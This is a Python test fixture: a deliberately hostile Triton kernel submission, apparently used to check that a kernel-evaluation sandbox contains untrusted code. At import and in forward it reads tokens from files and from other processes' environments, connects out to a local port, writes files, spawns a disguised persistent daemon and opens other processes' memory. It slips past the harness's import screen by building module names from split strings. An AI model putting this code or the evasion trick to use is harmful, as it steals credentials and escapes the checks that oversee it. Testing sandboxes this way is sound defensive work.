"""Hostile: tries to get out of its run (PARAMS is filled in by the test). Each attack runs at
import time and again in forward; if ANY succeeds, the output is wrong and the error message
carries what was stolen, so the verdict shows it. The screen's import check is sidestepped with
computed module names: only the kernel's sandbox stands in the way."""

import os

import torch
import torch.nn as nn
import triton
import triton.language as tl

PARAMS = {}  # replaced by the test


def _mod(*parts):
    return __import__("".join(parts))


def _token():
    found = []
    for path in PARAMS.get("token_files", []):
        try:
            with open(path) as fh:
                found.append(fh.read().strip())
        except OSError:
            pass
    for pid in os.listdir("/proc") + [str(p) for p in PARAMS.get("pids", [])]:
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                for item in fh.read().split(b"\0"):
                    if b"TOKEN" in item.split(b"=")[0]:
                        found.append(item.decode(errors="replace"))
        except OSError:
            pass
    return found


def _connect():
    s = _mod("so", "cket")
    try:
        conn = s.create_connection(("127.0.0.1", PARAMS["port"]), timeout=2)
        conn.sendall(b"pwned")
        conn.close()
        return ["connected"]
    except OSError:
        return []


def _write():
    done = []
    for path in PARAMS.get("write_paths", []):
        try:
            with open(path, "w") as fh:
                fh.write("pwned")
            done.append(path)
        except OSError:
            pass
    return done


def _daemon():
    posix = _mod("pos", "ix")
    if posix.fork() == 0:
        os.setsid()
        if posix.fork() == 0:
            c = _mod("cty", "pes")
            c.CDLL(None).prctl(15, PARAMS["daemon_name"].encode(), 0, 0, 0)  # PR_SET_NAME
            while True:
                for path in PARAMS.get("write_paths", []):
                    try:
                        with open(path, "w") as fh:
                            fh.write("late")
                    except OSError:
                        pass
                __import__("time").sleep(0.2)
        os._exit(0)
    return []


def _mem():
    opened = []
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit()] + list(PARAMS.get("pids", []))
    for pid in pids:
        if pid == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/mem", "r+b"):
                opened.append(pid)
        except OSError:
            pass
    return [f"mem of {p}" for p in opened]


ATTACKS = {"token": _token, "connect": _connect, "write": _write, "daemon": _daemon, "mem": _mem}


def attack():
    return [hit for name in PARAMS.get("attacks", []) for hit in ATTACKS[name]()]


STOLEN = attack()


@triton.jit
def relu_add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask)
    y = tl.load(y_ptr + offs, mask=mask)
    tl.store(out_ptr + offs, tl.maximum(x, 0.0) + y, mask=mask)


class ModelNew(nn.Module):
    def forward(self, x, y):
        stolen = STOLEN + [h for h in attack() if h not in STOLEN and "daemon" not in PARAMS.get("attacks", [])]
        if stolen:
            raise RuntimeError("escaped the sandbox: " + " | ".join(stolen))
        out = torch.empty_like(x)
        relu_add_kernel[(triton.cdiv(x.numel(), 128),)](x, y, out, x.numel(), BLOCK=128)
        return out
